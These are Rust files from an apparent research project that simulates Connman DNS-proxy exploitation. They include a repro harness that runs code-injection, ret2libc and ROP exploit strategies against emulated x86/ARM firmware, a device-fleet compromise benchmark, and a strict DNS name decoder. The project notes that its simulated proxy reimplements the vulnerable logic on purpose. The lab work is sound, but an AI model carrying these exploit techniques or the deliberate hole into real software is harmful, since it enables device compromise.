         \"jobs\":{},\"wall_secs\":{:.6},\"devices_per_sec\":{:.2},\
         \"compromised\":{},\"survivors\":{}}},\
         \"fleet_scale\":{{\"devices\":{},\"jobs\":{},\"wall_secs\":{:.6},\
         \"devices_per_sec\":{:.2},\"sessions\":{},\"compromised\":{},\
         \"ablation_devices\":{},\"smoke_devices_per_sec\":{:.2},\
         \"full_entropy_wall_secs\":{:.6},\
         \"per_worker_forge_wall_secs\":{:.6},\"forge_ratio\":{:.2},\
         \"per_device_answers_wall_secs\":{:.6},\"answer_ratio\":{:.2},\
         \"materialized_wall_secs\":{:.6},\"report_ratio\":{:.2}}}}}\n",
        exps.join(","),
        ana.join(","),
        abl,
        fleet.devices,
        fleet.jobs,
        fleet.elapsed.as_secs_f64(),
        fleet.devices_per_sec(),
        fleet.compromised(),
        fleet.survivors(),
        scale.devices,
        scale.jobs,
        scale.wall_secs,
        scale.devices_per_sec,
        scale.sessions,
        scale.compromised,
        scale.ablation_devices,
        scale.smoke_devices_per_sec,
        scale.full_entropy_wall_secs,
        scale.per_worker_forge_wall_secs,
        scale.forge_ratio(),
        scale.per_device_answers_wall_secs,
        scale.answer_ratio(),
        scale.materialized_wall_secs,
        scale.report_ratio()
    )
}

/// Minimal JSON rendering (the approved dependency set has serde but not
/// serde_json; tables are simple enough to emit by hand).
fn to_json(suite: &Suite) -> String {
    fn esc(s: &str) -> String {
        s.replace('\\', "\\\\")
            .replace('"', "\\\"")
            .replace('\n', "\\n")
    }
    let tables: Vec<String> = suite
        .tables
        .iter()
        .map(|t| {
            let rows: Vec<String> = t
                .rows
                .iter()
                .map(|r| {
                    let cells: Vec<String> = r.iter().map(|c| format!("\"{}\"", esc(c))).collect();
                    format!("[{}]", cells.join(","))
                })
                .collect();
            let header: Vec<String> = t.header.iter().map(|h| format!("\"{}\"", esc(h))).collect();
            let notes: Vec<String> = t.notes.iter().map(|n| format!("\"{}\"", esc(n))).collect();
            format!(
                "{{\"id\":\"{}\",\"title\":\"{}\",\"header\":[{}],\"rows\":[{}],\"notes\":[{}]}}",
                esc(&t.id),
                esc(&t.title),
                header.join(","),
                rows.join(","),
                notes.join(",")
            )
        })
        .collect();
    format!("{{\"tables\":[{}]}}", tables.join(","))
}
