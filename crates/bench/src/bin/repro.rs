//! Regenerates every table/figure of the reproduced paper.
//!
//! ```text
//! repro                 # run E1..E8, print markdown to stdout
//! repro --exp e2 e5     # run selected experiments
//! repro --out FILE      # also write the markdown to FILE
//! repro --json          # machine-readable output
//! ```

use std::io::Write;

use cml_core::experiments;
use cml_core::report::Suite;

fn main() {
    let mut ids: Vec<String> = Vec::new();
    let mut out_path: Option<String> = None;
    let mut json = false;
    let mut args = std::env::args().skip(1);
    while let Some(arg) = args.next() {
        match arg.as_str() {
            "--exp" => { /* ids follow */ }
            "--out" => out_path = args.next(),
            "--json" => json = true,
            "--help" | "-h" => {
                eprintln!("usage: repro [--exp e1 e2 …] [--out FILE] [--json]");
                return;
            }
            other => ids.push(other.to_string()),
        }
    }

    let suite = if ids.is_empty() {
        eprintln!("running all experiments (E1..E8) — a few minutes of simulated boots…");
        experiments::run_all()
    } else {
        let mut tables = Vec::new();
        for id in &ids {
            match experiments::run_one(id) {
                Some(t) => {
                    eprintln!("finished {id}");
                    tables.push(t);
                }
                None => eprintln!("unknown experiment id {id:?} (want e1..e8)"),
            }
        }
        Suite { tables }
    };

    let body = if json { to_json(&suite) } else { suite.to_markdown() };
    println!("{body}");
    if let Some(path) = out_path {
        match std::fs::File::create(&path).and_then(|mut f| f.write_all(body.as_bytes())) {
            Ok(()) => eprintln!("wrote {path}"),
            Err(e) => eprintln!("failed to write {path}: {e}"),
        }
    }
}

/// Minimal JSON rendering (the approved dependency set has serde but not
/// serde_json; tables are simple enough to emit by hand).
fn to_json(suite: &Suite) -> String {
    fn esc(s: &str) -> String {
        s.replace('\\', "\\\\").replace('"', "\\\"").replace('\n', "\\n")
    }
    let tables: Vec<String> = suite
        .tables
        .iter()
        .map(|t| {
            let rows: Vec<String> = t
                .rows
                .iter()
                .map(|r| {
                    let cells: Vec<String> =
                        r.iter().map(|c| format!("\"{}\"", esc(c))).collect();
                    format!("[{}]", cells.join(","))
                })
                .collect();
            let header: Vec<String> =
                t.header.iter().map(|h| format!("\"{}\"", esc(h))).collect();
            let notes: Vec<String> =
                t.notes.iter().map(|n| format!("\"{}\"", esc(n))).collect();
            format!(
                "{{\"id\":\"{}\",\"title\":\"{}\",\"header\":[{}],\"rows\":[{}],\"notes\":[{}]}}",
                esc(&t.id),
                esc(&t.title),
                header.join(","),
                rows.join(","),
                notes.join(",")
            )
        })
        .collect();
    format!("{{\"tables\":[{}]}}", tables.join(","))
}
