//! Regenerates every table/figure of the reproduced paper.
//!
//! ```text
//! repro                 # run E1..E8, print markdown to stdout
//! repro --exp e2 e5     # run selected experiments
//! repro --out FILE      # also write the markdown to FILE
//! repro --json          # machine-readable output
//! repro --jobs 4        # fan matrix experiments across 4 workers
//! repro --bench-json    # also time each experiment + a 1,000-device
//!                       # fleet + the static analyzer and write
//!                       # BENCH_<n>.json
//! repro --sanitize      # run the 6-cell exploit matrix under the VM
//!                       # shadow-memory sanitizer and print precise
//!                       # overflow diagnostics per cell
//! ```

use std::io::Write;
use std::time::Instant;

use cml_core::experiments;
use cml_core::fleet::{run_fleet, FleetSpec};
use cml_core::report::Suite;
use cml_core::{Arch, Firmware, FirmwareKind, Lab, Protections, ProxyOutcome};
use cml_exploit::{ArmGadgetExeclp, CodeInjection, ExploitStrategy, Ret2Libc, RopMemcpyChain};
use cml_vm::Fault;

const ALL_IDS: [&str; 8] = ["e1", "e2", "e3", "e4", "e5", "e6", "e7", "e8"];
const FLEET_DEVICES: usize = 1000;

fn main() {
    let mut ids: Vec<String> = Vec::new();
    let mut out_path: Option<String> = None;
    let mut json = false;
    let mut bench_json = false;
    let mut sanitize = false;
    let mut jobs = 1usize;
    let mut args = std::env::args().skip(1);
    while let Some(arg) = args.next() {
        match arg.as_str() {
            "--exp" => { /* ids follow */ }
            "--out" => out_path = args.next(),
            "--json" => json = true,
            "--bench-json" | "--timings" => bench_json = true,
            "--sanitize" => sanitize = true,
            "--jobs" => {
                jobs = args.next().and_then(|v| v.parse().ok()).unwrap_or_else(|| {
                    eprintln!("--jobs wants a number, using 1");
                    1
                });
            }
            "--help" | "-h" => {
                eprintln!(
                    "usage: repro [--exp e1 e2 …] [--out FILE] [--json] \
                     [--jobs N] [--bench-json|--timings] [--sanitize]"
                );
                return;
            }
            other => ids.push(other.to_string()),
        }
    }

    if sanitize {
        std::process::exit(sanitize_matrix());
    }

    let run_ids: Vec<String> = if ids.is_empty() {
        ALL_IDS.iter().map(|s| s.to_string()).collect()
    } else {
        ids.clone()
    };
    if ids.is_empty() {
        eprintln!("running all experiments (E1..E8) on {jobs} worker(s)…");
    }

    // Run experiment-by-experiment so --bench-json can attribute wall
    // time to each table; concatenating per-id runs reproduces
    // run_all_jobs() output exactly (both are ordered merges).
    let mut tables = Vec::new();
    let mut timings: Vec<(String, f64)> = Vec::new();
    for id in &run_ids {
        let t0 = Instant::now();
        match experiments::run_one_jobs(id, jobs) {
            Some(t) => {
                let secs = t0.elapsed().as_secs_f64();
                eprintln!("finished {id} in {:.2}s", secs);
                timings.push((id.clone(), secs));
                tables.push(t);
            }
            None => eprintln!("unknown experiment id {id:?} (want e1..e8)"),
        }
    }
    let suite = Suite { tables };

    let body = if json {
        to_json(&suite)
    } else {
        suite.to_markdown()
    };
    println!("{body}");
    if let Some(path) = out_path {
        match std::fs::File::create(&path).and_then(|mut f| f.write_all(body.as_bytes())) {
            Ok(()) => eprintln!("wrote {path}"),
            Err(e) => eprintln!("failed to write {path}: {e}"),
        }
    }

    if bench_json {
        let spec = FleetSpec::heterogeneous(FLEET_DEVICES, 0xF1EE7);
        eprintln!("timing a {FLEET_DEVICES}-device fleet on {jobs} worker(s)…");
        let report = run_fleet(&spec, jobs);
        eprintln!(
            "fleet: {} devices in {:.2}s ({:.1} devices/sec, {} compromised)",
            report.outcomes.len(),
            report.elapsed.as_secs_f64(),
            report.devices_per_sec(),
            report.compromised()
        );
        eprintln!("timing the static analyzer on both architectures…");
        let analysis = analysis_timings();
        for (arch, secs, insns) in &analysis {
            eprintln!("analyzer: {arch} CFG+taint+audit over {insns} instructions in {secs:.4}s");
        }
        let path = next_bench_path();
        let doc = bench_json_doc(jobs, &timings, &report, &analysis);
        match std::fs::File::create(&path).and_then(|mut f| f.write_all(doc.as_bytes())) {
            Ok(()) => eprintln!("wrote {path}"),
            Err(e) => eprintln!("failed to write {path}: {e}"),
        }
    }
}

/// Runs the six-cell exploit matrix (x86/ARM × none/W⊕X/W⊕X+ASLR) with
/// the VM shadow-memory sanitizer armed on the victim and prints the
/// precise overflow diagnostics each cell produces. Returns the process
/// exit code: 0 when every cell is pinpointed, 1 otherwise.
fn sanitize_matrix() -> i32 {
    let cells: [(Protections, &str); 3] = [
        (Protections::none(), "none"),
        (Protections::wxorx(), "wxorx"),
        (Protections::full(), "full"),
    ];
    let mut all_pinpointed = true;
    println!("### shadow-memory sanitizer: 6-cell exploit matrix\n");
    for arch in Arch::ALL {
        for (prot, prot_name) in cells {
            let strategy: Box<dyn ExploitStrategy> = if prot.aslr.enabled {
                Box::new(RopMemcpyChain::new(arch))
            } else if prot.wxorx {
                match arch {
                    Arch::X86 => Box::new(Ret2Libc::new()),
                    Arch::Armv7 => Box::new(ArmGadgetExeclp::new()),
                }
            } else {
                Box::new(CodeInjection::new(arch))
            };
            let lab = Lab::new(FirmwareKind::OpenElec, arch)
                .with_protections(prot)
                .with_sanitizer(true);
            let cell = format!("{arch}/{prot_name} ({})", strategy.name());
            match lab.run_exploit(strategy.as_ref()) {
                Ok(report) => match report.proxy_outcome {
                    ProxyOutcome::Crashed(ref fr)
                        if matches!(fr.fault, Fault::RedzoneViolation { .. }) =>
                    {
                        println!("{cell}: {}", fr.fault);
                    }
                    ref other => {
                        all_pinpointed = false;
                        println!("{cell}: NOT PINPOINTED — {other}");
                    }
                },
                Err(e) => {
                    all_pinpointed = false;
                    println!("{cell}: attack could not be built: {e}");
                }
            }
        }
    }
    println!();
    if all_pinpointed {
        println!("all 6 cells pinpointed by the sanitizer");
        0
    } else {
        println!("some cells escaped the sanitizer");
        1
    }
}

/// Times one full static-analysis pipeline (CFG recovery + taint pass +
/// mitigation audit) per architecture over the OpenElec image.
fn analysis_timings() -> Vec<(Arch, f64, usize)> {
    Arch::ALL
        .iter()
        .map(|&arch| {
            let firmware = Firmware::build(FirmwareKind::OpenElec, arch);
            let t0 = Instant::now();
            let report = cml_analyze::analyze(firmware.image());
            (arch, t0.elapsed().as_secs_f64(), report.cfg.instructions)
        })
        .collect()
}

/// First `BENCH_<n>.json` name not already taken in the working dir.
fn next_bench_path() -> String {
    (0..)
        .map(|n| format!("BENCH_{n}.json"))
        .find(|p| !std::path::Path::new(p).exists())
        .expect("some index is free")
}

fn bench_json_doc(
    jobs: usize,
    timings: &[(String, f64)],
    fleet: &cml_core::fleet::FleetReport,
    analysis: &[(Arch, f64, usize)],
) -> String {
    let exps: Vec<String> = timings
        .iter()
        .map(|(id, secs)| format!("{{\"id\":\"{id}\",\"wall_secs\":{secs:.6}}}"))
        .collect();
    let ana: Vec<String> = analysis
        .iter()
        .map(|(arch, secs, insns)| {
            format!("{{\"arch\":\"{arch}\",\"wall_secs\":{secs:.6},\"instructions\":{insns}}}")
        })
        .collect();
    format!(
        "{{\"jobs\":{jobs},\"experiments\":[{}],\"analysis\":[{}],\"fleet\":{{\"devices\":{},\
         \"jobs\":{},\"wall_secs\":{:.6},\"devices_per_sec\":{:.2},\
         \"compromised\":{},\"survivors\":{}}}}}\n",
        exps.join(","),
        ana.join(","),
        fleet.outcomes.len(),
        fleet.jobs,
        fleet.elapsed.as_secs_f64(),
        fleet.devices_per_sec(),
        fleet.compromised(),
        fleet.survivors()
    )
}

/// Minimal JSON rendering (the approved dependency set has serde but not
/// serde_json; tables are simple enough to emit by hand).
fn to_json(suite: &Suite) -> String {
    fn esc(s: &str) -> String {
        s.replace('\\', "\\\\")
            .replace('"', "\\\"")
            .replace('\n', "\\n")
    }
    let tables: Vec<String> = suite
        .tables
        .iter()
        .map(|t| {
            let rows: Vec<String> = t
                .rows
                .iter()
                .map(|r| {
                    let cells: Vec<String> = r.iter().map(|c| format!("\"{}\"", esc(c))).collect();
                    format!("[{}]", cells.join(","))
                })
                .collect();
            let header: Vec<String> = t.header.iter().map(|h| format!("\"{}\"", esc(h))).collect();
            let notes: Vec<String> = t.notes.iter().map(|n| format!("\"{}\"", esc(n))).collect();
            format!(
                "{{\"id\":\"{}\",\"title\":\"{}\",\"header\":[{}],\"rows\":[{}],\"notes\":[{}]}}",
                esc(&t.id),
                esc(&t.title),
                header.join(","),
                rows.join(","),
                notes.join(",")
            )
        })
        .collect();
    format!("{{\"tables\":[{}]}}", tables.join(","))
}
