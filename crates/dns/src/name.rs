//! Domain names: labels, parsing, wire encoding and decompression.

use std::collections::HashMap;
use std::fmt;

use crate::wire::{WireBuf, WireReader, WireWriter};
use crate::DnsError;

/// Maximum length of a single label on the wire (RFC 1035 §2.3.4).
pub const MAX_LABEL_LEN: usize = 63;

/// Maximum length of a full name on the wire, including length bytes and
/// the root terminator (RFC 1035 §2.3.4).
pub const MAX_NAME_LEN: usize = 255;

/// Maximum number of compression pointers the strict decoder will chase
/// for one name before declaring the message malicious.
pub const MAX_POINTER_HOPS: usize = 32;

/// One label of a domain name.
///
/// The strict constructor only accepts the conventional hostname alphabet
/// (letters, digits, hyphen, underscore); [`Label::from_bytes_relaxed`]
/// accepts any bytes, which decoding uses because real-world traffic is
/// not always polite.
///
/// Stored inline (a label is at most 63 bytes by construction), so
/// building one never allocates — decoding a name costs one `Vec` for
/// the label list and nothing per label.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Label {
    len: u8,
    // Invariant: bytes past `len` are zero, so the derived equality over
    // the whole buffer equals byte-string equality.
    buf: [u8; MAX_LABEL_LEN],
}

impl Label {
    fn from_checked(bytes: &[u8]) -> Self {
        let mut buf = [0u8; MAX_LABEL_LEN];
        buf[..bytes.len()].copy_from_slice(bytes);
        Label {
            len: bytes.len() as u8,
            buf,
        }
    }

    /// Creates a label from text, validating the hostname alphabet.
    ///
    /// # Errors
    ///
    /// Returns [`DnsError::EmptyLabel`], [`DnsError::LabelTooLong`] or
    /// [`DnsError::InvalidLabelByte`] on bad input.
    pub fn new(text: &str) -> Result<Self, DnsError> {
        let bytes = text.as_bytes();
        if bytes.is_empty() {
            return Err(DnsError::EmptyLabel);
        }
        if bytes.len() > MAX_LABEL_LEN {
            return Err(DnsError::LabelTooLong(bytes.len()));
        }
        for &b in bytes {
            if !(b.is_ascii_alphanumeric() || b == b'-' || b == b'_') {
                return Err(DnsError::InvalidLabelByte(b));
            }
        }
        Ok(Label::from_checked(bytes))
    }

    /// Creates a label from arbitrary bytes, checking only the length
    /// limits that the wire format itself enforces.
    ///
    /// # Errors
    ///
    /// Returns [`DnsError::EmptyLabel`] or [`DnsError::LabelTooLong`].
    pub fn from_bytes_relaxed(bytes: &[u8]) -> Result<Self, DnsError> {
        if bytes.is_empty() {
            return Err(DnsError::EmptyLabel);
        }
        if bytes.len() > MAX_LABEL_LEN {
            return Err(DnsError::LabelTooLong(bytes.len()));
        }
        Ok(Label::from_checked(bytes))
    }

    /// The raw bytes of the label.
    pub fn as_bytes(&self) -> &[u8] {
        &self.buf[..self.len as usize]
    }

    /// Length of the label in bytes (1..=63).
    pub fn len(&self) -> usize {
        self.len as usize
    }

    /// A label is never empty; this always returns `false` but exists for
    /// API symmetry with collection types.
    pub fn is_empty(&self) -> bool {
        false
    }

    /// Case-insensitive comparison as required for name matching
    /// (RFC 1035 §2.3.3).
    pub fn eq_ignore_case(&self, other: &Label) -> bool {
        self.as_bytes().eq_ignore_ascii_case(other.as_bytes())
    }
}

impl std::hash::Hash for Label {
    fn hash<H: std::hash::Hasher>(&self, state: &mut H) {
        self.as_bytes().hash(state);
    }
}

impl PartialOrd for Label {
    fn partial_cmp(&self, other: &Self) -> Option<std::cmp::Ordering> {
        Some(self.cmp(other))
    }
}

impl Ord for Label {
    fn cmp(&self, other: &Self) -> std::cmp::Ordering {
        self.as_bytes().cmp(other.as_bytes())
    }
}

impl fmt::Display for Label {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        for &b in self.as_bytes() {
            if b.is_ascii_graphic() && b != b'.' && b != b'\\' {
                write!(f, "{}", b as char)?;
            } else {
                write!(f, "\\{b:03}")?;
            }
        }
        Ok(())
    }
}

/// A fully-qualified domain name as an ordered list of labels.
///
/// The empty list is the DNS root. `Name` values built through the public
/// constructors always satisfy the RFC length limits; only the [`forge`]
/// module emits names that do not.
///
/// [`forge`]: crate::forge
#[derive(Debug, Clone, PartialEq, Eq, Hash, Default)]
pub struct Name {
    labels: Vec<Label>,
}

impl Name {
    /// The root name (zero labels).
    pub fn root() -> Self {
        Name { labels: Vec::new() }
    }

    /// Parses a dotted name such as `"www.example.com"`.
    ///
    /// A single trailing dot is accepted and ignored. The empty string and
    /// `"."` both denote the root.
    ///
    /// # Errors
    ///
    /// Returns an error if any label is invalid or the total wire length
    /// would exceed [`MAX_NAME_LEN`].
    pub fn parse(text: &str) -> Result<Self, DnsError> {
        let trimmed = text.strip_suffix('.').unwrap_or(text);
        if trimmed.is_empty() {
            return Ok(Name::root());
        }
        let mut labels = Vec::new();
        for part in trimmed.split('.') {
            labels.push(Label::new(part)?);
        }
        Name::from_labels(labels)
    }

    /// Builds a name from pre-validated labels, enforcing the total
    /// length limit.
    ///
    /// # Errors
    ///
    /// Returns [`DnsError::NameTooLong`] if the wire form would exceed
    /// [`MAX_NAME_LEN`] bytes.
    pub fn from_labels(labels: Vec<Label>) -> Result<Self, DnsError> {
        let name = Name { labels };
        let wire = name.wire_len();
        if wire > MAX_NAME_LEN {
            return Err(DnsError::NameTooLong(wire));
        }
        Ok(name)
    }

    /// The labels of this name, most-specific first.
    pub fn labels(&self) -> &[Label] {
        &self.labels
    }

    /// Whether this is the root name.
    pub fn is_root(&self) -> bool {
        self.labels.is_empty()
    }

    /// Number of labels.
    pub fn label_count(&self) -> usize {
        self.labels.len()
    }

    /// Length of the uncompressed wire encoding, including each label's
    /// length byte and the trailing root byte.
    pub fn wire_len(&self) -> usize {
        1 + self.labels.iter().map(|l| l.len() + 1).sum::<usize>()
    }

    /// Case-insensitive equality, as used for cache lookups.
    pub fn eq_ignore_case(&self, other: &Name) -> bool {
        self.labels.len() == other.labels.len()
            && self
                .labels
                .iter()
                .zip(&other.labels)
                .all(|(a, b)| a.eq_ignore_case(b))
    }

    /// The parent name (one label removed), or `None` at the root.
    pub fn parent(&self) -> Option<Name> {
        if self.labels.is_empty() {
            None
        } else {
            Some(Name {
                labels: self.labels[1..].to_vec(),
            })
        }
    }

    /// Encodes without compression.
    ///
    /// # Errors
    ///
    /// Propagates writer capacity errors.
    pub fn encode_uncompressed(&self, w: &mut WireWriter) -> Result<(), DnsError> {
        for label in &self.labels {
            w.write_u8(label.len() as u8)?;
            w.write_bytes(label.as_bytes())?;
        }
        w.write_u8(0)
    }

    /// [`encode_uncompressed`](Self::encode_uncompressed) into a
    /// reusable buffer: `out`'s contents are replaced, its capacity is
    /// kept, and a warm buffer makes the encode allocation-free.
    ///
    /// # Errors
    ///
    /// Propagates writer capacity errors.
    pub fn encode_into(&self, out: &mut WireBuf) -> Result<(), DnsError> {
        let mut w = WireWriter::from_vec(std::mem::take(out.as_mut_vec()));
        self.encode_uncompressed(&mut w)?;
        *out.as_mut_vec() = w.into_bytes();
        Ok(())
    }

    /// Encodes with RFC 1035 §4.1.4 compression.
    ///
    /// `offsets` maps previously-emitted suffixes to their positions; this
    /// method both consults and extends it. Only offsets that fit the
    /// 14-bit pointer encoding are recorded.
    ///
    /// # Errors
    ///
    /// Propagates writer capacity errors.
    pub fn encode_compressed(
        &self,
        w: &mut WireWriter,
        offsets: &mut HashMap<Name, u16>,
    ) -> Result<(), DnsError> {
        let mut suffix = self.clone();
        loop {
            if suffix.is_root() {
                return w.write_u8(0);
            }
            if let Some(&off) = offsets.get(&suffix) {
                return w.write_u16(0xC000 | off);
            }
            let here = w.len();
            if here <= 0x3FFF {
                offsets.insert(suffix.clone(), here as u16);
            }
            let label = &suffix.labels[0];
            w.write_u8(label.len() as u8)?;
            w.write_bytes(label.as_bytes())?;
            suffix = suffix.parent().expect("non-root name has a parent");
        }
    }

    /// Decodes a (possibly compressed) name at the reader's position,
    /// leaving the reader just past the name's in-place bytes.
    ///
    /// This is the *strict* decoder: it enforces backward-only pointers, a
    /// hop limit, and the 255-byte total. The vulnerable proxy in
    /// `cml-connman` deliberately does **not** use this routine — it
    /// re-implements the buggy C logic.
    ///
    /// # Errors
    ///
    /// Returns a [`DnsError`] describing the first malformation found.
    pub fn decode(r: &mut WireReader<'_>) -> Result<Self, DnsError> {
        let msg = r.message();
        let mut labels = Vec::new();
        let mut wire_len = 1usize;
        let mut hops = 0usize;
        // Position we will restore the reader to once the in-place portion
        // of the name has been consumed. Set on the first pointer only.
        let mut resume: Option<usize> = None;
        let mut pos = r.position();
        loop {
            let len = *msg.get(pos).ok_or(DnsError::Truncated {
                context: "name length byte",
            })? as usize;
            match len {
                0 => {
                    pos += 1;
                    break;
                }
                l if l & 0xC0 == 0xC0 => {
                    let lo = *msg.get(pos + 1).ok_or(DnsError::Truncated {
                        context: "pointer low byte",
                    })? as usize;
                    let target = ((l & 0x3F) << 8) | lo;
                    if target >= pos {
                        return Err(DnsError::ForwardPointer { target, at: pos });
                    }
                    hops += 1;
                    if hops > MAX_POINTER_HOPS {
                        return Err(DnsError::PointerLimit(MAX_POINTER_HOPS));
                    }
                    if resume.is_none() {
                        resume = Some(pos + 2);
                    }
                    pos = target;
                }
                l if l & 0xC0 != 0 => return Err(DnsError::BadLabelType(l as u8)),
                l => {
                    let end = pos + 1 + l;
                    let bytes = msg.get(pos + 1..end).ok_or(DnsError::Truncated {
                        context: "label bytes",
                    })?;
                    wire_len += l + 1;
                    if wire_len > MAX_NAME_LEN {
                        return Err(DnsError::NameTooLong(wire_len));
                    }
                    labels.push(Label::from_bytes_relaxed(bytes)?);
                    pos = end;
                }
            }
        }
        r.seek(resume.unwrap_or(pos))?;
        Ok(Name { labels })
    }
}

impl fmt::Display for Name {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        if self.labels.is_empty() {
            return write!(f, ".");
        }
        for (i, label) in self.labels.iter().enumerate() {
            if i > 0 {
                write!(f, ".")?;
            }
            write!(f, "{label}")?;
        }
        Ok(())
    }
}

impl std::str::FromStr for Name {
    type Err = DnsError;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        Name::parse(s)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn encode(name: &Name) -> Vec<u8> {
        let mut w = WireWriter::new();
        name.encode_uncompressed(&mut w).unwrap();
        w.into_bytes()
    }

    #[test]
    fn parse_and_display_roundtrip() {
        let n = Name::parse("www.Example.com").unwrap();
        assert_eq!(n.label_count(), 3);
        assert_eq!(n.to_string(), "www.Example.com");
        assert_eq!(Name::parse("www.example.com.").unwrap().label_count(), 3);
    }

    #[test]
    fn root_forms() {
        assert!(Name::parse("").unwrap().is_root());
        assert!(Name::parse(".").unwrap().is_root());
        assert_eq!(Name::root().to_string(), ".");
        assert_eq!(encode(&Name::root()), vec![0]);
    }

    #[test]
    fn rejects_bad_labels() {
        assert!(matches!(Name::parse("a..b"), Err(DnsError::EmptyLabel)));
        assert!(matches!(
            Name::parse("bad domain"),
            Err(DnsError::InvalidLabelByte(b' '))
        ));
        let long = "x".repeat(64);
        assert!(matches!(
            Name::parse(&long),
            Err(DnsError::LabelTooLong(64))
        ));
    }

    #[test]
    fn rejects_overlong_name() {
        let label = "a".repeat(63);
        let text = vec![label; 5].join(".");
        assert!(matches!(Name::parse(&text), Err(DnsError::NameTooLong(_))));
    }

    #[test]
    fn wire_len_counts_length_bytes_and_root() {
        let n = Name::parse("ab.cd").unwrap();
        // 1+2 + 1+2 + 1 = 7
        assert_eq!(n.wire_len(), 7);
        assert_eq!(encode(&n).len(), 7);
    }

    #[test]
    fn uncompressed_encoding_matches_rfc_example() {
        let n = Name::parse("f.isi.arpa").unwrap();
        assert_eq!(
            encode(&n),
            vec![1, b'f', 3, b'i', b's', b'i', 4, b'a', b'r', b'p', b'a', 0]
        );
    }

    #[test]
    fn decode_simple() {
        let bytes = encode(&Name::parse("a.bc").unwrap());
        let mut r = WireReader::new(&bytes);
        let n = Name::decode(&mut r).unwrap();
        assert_eq!(n.to_string(), "a.bc");
        assert!(r.is_empty());
    }

    #[test]
    fn compression_shares_suffixes() {
        let mut w = WireWriter::new();
        let mut offsets = HashMap::new();
        Name::parse("mail.example.com")
            .unwrap()
            .encode_compressed(&mut w, &mut offsets)
            .unwrap();
        let first_len = w.len();
        Name::parse("ftp.example.com")
            .unwrap()
            .encode_compressed(&mut w, &mut offsets)
            .unwrap();
        let bytes = w.into_bytes();
        // Second name is "ftp" label + 2-byte pointer.
        assert_eq!(bytes.len() - first_len, 1 + 3 + 2);
        let mut r = WireReader::new(&bytes);
        assert_eq!(
            Name::decode(&mut r).unwrap().to_string(),
            "mail.example.com"
        );
        assert_eq!(Name::decode(&mut r).unwrap().to_string(), "ftp.example.com");
        assert!(r.is_empty());
    }

    #[test]
    fn decode_rejects_forward_pointer() {
        // Pointer at offset 0 pointing to itself.
        let bytes = [0xC0, 0x00];
        let mut r = WireReader::new(&bytes);
        assert!(matches!(
            Name::decode(&mut r),
            Err(DnsError::ForwardPointer { .. })
        ));
    }

    #[test]
    fn decode_rejects_reserved_label_bits() {
        let bytes = [0x40, 0x00];
        let mut r = WireReader::new(&bytes);
        assert!(matches!(
            Name::decode(&mut r),
            Err(DnsError::BadLabelType(0x40))
        ));
    }

    #[test]
    fn decode_rejects_truncation() {
        let bytes = [5, b'a', b'b'];
        let mut r = WireReader::new(&bytes);
        assert!(matches!(
            Name::decode(&mut r),
            Err(DnsError::Truncated {
                context: "label bytes"
            })
        ));
    }

    #[test]
    fn decode_rejects_overlong_expansion() {
        // Chain of labels each pointing backward would exceed 255 bytes of
        // logical name: build 5 in-place 63-byte labels.
        let mut bytes = Vec::new();
        for _ in 0..5 {
            bytes.push(63);
            bytes.extend(std::iter::repeat_n(b'a', 63));
        }
        bytes.push(0);
        let mut r = WireReader::new(&bytes);
        assert!(matches!(
            Name::decode(&mut r),
            Err(DnsError::NameTooLong(_))
        ));
    }

    #[test]
    fn decode_resumes_after_first_pointer() {
        // message: name "x" at 0; then at 3: label "y" + pointer to 0; then
        // a sentinel byte.
        let bytes = [1, b'x', 0, 1, b'y', 0xC0, 0x00, 0xEE];
        let mut r = WireReader::new(&bytes);
        r.seek(3).unwrap();
        let n = Name::decode(&mut r).unwrap();
        assert_eq!(n.to_string(), "y.x");
        assert_eq!(r.position(), 7);
        assert_eq!(r.read_u8("sentinel").unwrap(), 0xEE);
    }

    #[test]
    fn case_insensitive_matching() {
        let a = Name::parse("WWW.Example.COM").unwrap();
        let b = Name::parse("www.example.com").unwrap();
        assert!(a.eq_ignore_case(&b));
        assert_ne!(a, b);
    }

    #[test]
    fn parent_walks_to_root() {
        let mut n = Name::parse("a.b.c").unwrap();
        let mut seen = Vec::new();
        loop {
            seen.push(n.to_string());
            match n.parent() {
                Some(p) => n = p,
                None => break,
            }
        }
        assert_eq!(seen, vec!["a.b.c", "b.c", "c", "."]);
    }
}
