//! The proxy's "header gate": the plausibility checks a response must
//! pass before Connman's `parse_response` ever runs.
//!
//! The paper emphasises that "the DNS responses must appear legitimate,
//! otherwise Connman dumps the packet as a bad response and never enters
//! the vulnerable portion of code". This module reproduces those checks as
//! a standalone, reusable function so both the simulated proxy and tests
//! agree on exactly which packets reach the vulnerable path.

use std::error::Error;
use std::fmt;

use crate::header::{Header, Opcode, Rcode};
use crate::message::Message;
use crate::question::Question;
use crate::wire::WireReader;
use crate::DnsError;

/// Why a response was dropped before reaching the vulnerable parser.
#[derive(Debug, Clone, PartialEq, Eq)]
#[non_exhaustive]
pub enum ResponseRejection {
    /// The packet was too short to carry a header, or the header itself
    /// was malformed.
    BadHeader(DnsError),
    /// The QR bit says this is a query, not a response.
    NotAResponse,
    /// The transaction id does not match the outstanding query.
    IdMismatch {
        /// Id the proxy is waiting for.
        expected: u16,
        /// Id found in the packet.
        found: u16,
    },
    /// The opcode is not a standard query.
    BadOpcode(Opcode),
    /// The response carries an error rcode; the proxy forwards it to the
    /// client but never caches (and so never decompresses) the answers.
    ErrorRcode(Rcode),
    /// The question section does not echo the query.
    QuestionMismatch,
    /// The response carries no answers to cache.
    NoAnswers,
    /// The question section itself failed to parse.
    BadQuestion(DnsError),
}

impl fmt::Display for ResponseRejection {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            ResponseRejection::BadHeader(e) => write!(f, "bad header: {e}"),
            ResponseRejection::NotAResponse => write!(f, "qr bit not set"),
            ResponseRejection::IdMismatch { expected, found } => {
                write!(f, "id {found:#06x} does not match query {expected:#06x}")
            }
            ResponseRejection::BadOpcode(op) => write!(f, "unexpected opcode {op:?}"),
            ResponseRejection::ErrorRcode(rc) => write!(f, "error rcode {rc}"),
            ResponseRejection::QuestionMismatch => write!(f, "question does not echo query"),
            ResponseRejection::NoAnswers => write!(f, "no answers present"),
            ResponseRejection::BadQuestion(e) => write!(f, "bad question: {e}"),
        }
    }
}

impl Error for ResponseRejection {
    fn source(&self) -> Option<&(dyn Error + 'static)> {
        match self {
